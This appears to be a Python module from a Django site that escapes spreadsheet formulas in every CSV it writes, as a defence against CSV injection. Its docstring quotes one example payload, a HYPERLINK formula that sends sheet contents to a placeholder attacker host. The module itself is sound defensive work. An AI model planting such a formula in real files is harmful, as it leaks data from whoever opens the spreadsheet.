"""CSV that spreadsheets open as data: the one writer for every CSV file the site writes.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some
programs, a tab or carriage return) as a formula: a jurisdiction named
``=HYPERLINK("http://evil.example/?"&A1,"x")`` would leak the sheet when the file is
opened. The usual defence (OWASP, "CSV injection") is to prefix such a text cell with a
single quote, which spreadsheets show as text. Numbers, dates and plain numeric text
(``-3``, ``2.5``) are written unchanged, so the file still sorts and sums.

``escape_cell`` and ``unescape_cell`` are exact inverses, so an admin export re-imports
unchanged: a value that already starts with a quote followed by a trigger gets one more.

Every CSV goes through here: ``writer(file)`` / ``DictWriter(file, fieldnames)`` are used
exactly like the ``csv`` module's; the admin's import and export use ``SpreadsheetSafeCSV``.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping
from typing import Any

import tablib
from import_export.formats import base_formats

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
# Text a spreadsheet reads as a plain number, which never runs anything: "-3", "+2.5", "-1e3".
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")


def _needs_quote(text: str) -> bool:
    if text.startswith(FORMULA_TRIGGERS):
        return not PLAIN_NUMBER.fullmatch(text)
    # Already quoted: quote again so that unescape_cell gives the original back.
    return text.startswith(QUOTE) and _needs_quote(text[1:]) if len(text) > 1 else False


def escape_cell(value: Any) -> Any:
    """``value`` as it should be written to a CSV cell: text that would run as a formula
    gets a leading ``'``; anything that is not text (numbers, dates, None) is unchanged."""
    if isinstance(value, str) and _needs_quote(value):
        return QUOTE + value
    return value


def unescape_cell(value: Any) -> Any:
    """The inverse of ``escape_cell``, for cells read back from a file this site wrote."""
    if isinstance(value, str) and value.startswith(QUOTE) and _needs_quote(value[1:]):
        return value[1:]
    return value


def escape_row(row: Iterable[Any]) -> list[Any]:
    return [escape_cell(value) for value in row]


class _SafeWriter:
    """A ``csv.writer`` whose rows are escaped cell by cell."""

    def __init__(self, file, dialect="excel", **options):
        self._writer = csv.writer(file, dialect, **options)

    @property
    def dialect(self):
        return self._writer.dialect

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(escape_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]):
        for row in rows:
            self.writerow(row)


def writer(file, dialect="excel", **options) -> _SafeWriter:
    """Like ``csv.writer``, with formula escaping."""
    return _SafeWriter(file, dialect, **options)


class DictWriter(csv.DictWriter):
    """Like ``csv.DictWriter``, with formula escaping."""

    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({name: escape_cell(value) for name, value in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for rowdict in rowdicts:
            self.writerow(rowdict)


class SpreadsheetSafeCSV(base_formats.CSV):
    """The admin's CSV format (django-import-export): escaped on export, unescaped on import,
    so an exported file opens safely in a spreadsheet and re-imports unchanged."""

    def export_data(self, dataset, **kwargs):
        escaped = tablib.Dataset(*(escape_row(row) for row in dataset), headers=dataset.headers)
        return super().export_data(escaped, **kwargs)

    def create_dataset(self, in_stream, **kwargs):
        dataset = super().create_dataset(in_stream, **kwargs)
        return tablib.Dataset(*([unescape_cell(cell) for cell in row] for row in dataset), headers=dataset.headers)
